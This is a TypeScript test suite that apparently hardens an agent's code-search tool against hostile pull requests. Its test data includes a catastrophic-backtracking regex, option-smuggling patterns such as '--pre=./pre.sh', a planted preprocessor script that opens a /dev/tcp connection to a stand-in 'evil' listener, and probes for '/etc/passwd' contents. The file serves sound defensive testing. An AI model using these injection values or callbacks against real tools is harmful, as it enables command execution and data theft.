import assert from "node:assert/strict";
import { after, before, describe } from "node:test";
import { type Arena, type Assault, answersIn, decisionsIn, openArena } from "./arena.ts";
import { row } from "./row.ts";

const BASE = {
  "src/price.js": "export const price = 10;\n",
  "bomb.txt": `${"a".repeat(34)}!\n`,
  ".ripgreprc": "--pre=./pre.sh\n",
};
/** Slow ways to match take seconds to centuries here; a linear one is done before anybody notices. */
const PROMPT_MS = 2_000;

describe("the tool that searches", () => {
  let arena: Arena;
  let pull: number;

  before(async () => {
    arena = await openArena(BASE);
    // Whoever runs it is heard: the listener has to stay silent.
    const port = new URL(arena.evil).port;
    await arena.scene.push("main", { "pre.sh": `#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/${port}\n` });
    const longLine = `export const price = 11; //${" price".repeat(500_000)}\n`;
    pull = await arena.scene.pullRequest("change", { "src/price.js": longLine });
  });
  after(() => arena.close());

  async function searched(args: object, env: Readonly<Record<string, string>> = {}): Promise<Assault> {
    return arena.attack(
      { event: "pull_request", action: "opened", repository: "acme/shop", number: pull },
      [{ calls: [["search", args]] }],
      { workspace: await arena.checkout(), env },
    );
  }

  row("S-01", async () => {
    const run = await searched({ pattern: "^(a+)+$", glob: "bomb.txt" });
    assert.match(answersIn(run)[0] ?? "", /no match/);
    const decision = run.audit.find(({ kind }) => kind === "tool");
    assert.ok(Number(decision?.["ms"]) < PROMPT_MS, JSON.stringify(decision));
  });

  // A pattern is never a word of a command: it goes in by itself, behind `-e`.
  row("S-02", async () => {
    assert.match(answersIn(await searched({ pattern: "--pre=./pre.sh" }))[0] ?? "", /\.ripgreprc:1/);
  });

  row("S-04", async () => {
    const run = await searched({ pattern: "price" }, { RIPGREP_CONFIG_PATH: ".ripgreprc" });
    assert.match(answersIn(run)[0] ?? "", /src\/price\.js:1/);
  });

  row("S-05", async () => {
    const [answer = ""] = answersIn(await searched({ pattern: "-O./pre.sh" }));
    assert.match(answer, /no match/);
    const extra = await searched({ pattern: "price", pager: "./pre.sh" });
    assert.deepEqual(
      decisionsIn(extra).map(({ code }) => code),
      ["invalid_args"],
    );
  });

  row("S-06", async () => {
    const run = await searched({ pattern: "((a{100}){100}){100}" });
    assert.deepEqual(
      decisionsIn(run).map(({ code }) => code),
      ["pattern_rejected"],
    );
  });

  row("S-07", async () => {
    const [answer = ""] = answersIn(await searched({ pattern: "price" }));
    assert.match(answer, /part of a long line/);
    assert.ok(answer.length < 60_000, `${answer.length} characters`);
  });

  row("S-08", async () => {
    const hidden = await searched({ pattern: "canary-", include_hidden: true, follow: true });
    assert.deepEqual(
      decisionsIn(hidden).map(({ code }) => code),
      ["invalid_args"],
    );
    assert.match(answersIn(await searched({ pattern: "canary-|root:x" }))[0] ?? "", /no match/);
  });
});
